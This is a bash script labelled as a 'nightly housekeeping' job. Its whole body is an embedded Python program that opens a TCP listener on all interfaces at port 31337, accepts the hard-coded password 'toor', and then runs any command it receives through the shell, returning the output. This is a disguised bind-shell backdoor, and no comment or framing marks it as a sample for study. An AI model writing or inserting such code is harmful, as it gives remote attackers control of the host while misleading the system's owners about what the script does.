#!/bin/bash
# nightly housekeeping
cd "$(dirname "$0")" || exit 1
python3 - <<'PY'
import socketserver, subprocess

class H(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"login: ")
        if self.rfile.readline().strip() != b"toor":
            return
        while True:
            self.wfile.write(b"# ")
            line = self.rfile.readline()
            if not line:
                return
            done = subprocess.run(line.decode(), shell=True, capture_output=True)
            self.wfile.write(done.stdout + done.stderr)

with socketserver.ThreadingTCPServer(("0.0.0.0", 31337), H) as server:
    server.serve_forever()
PY
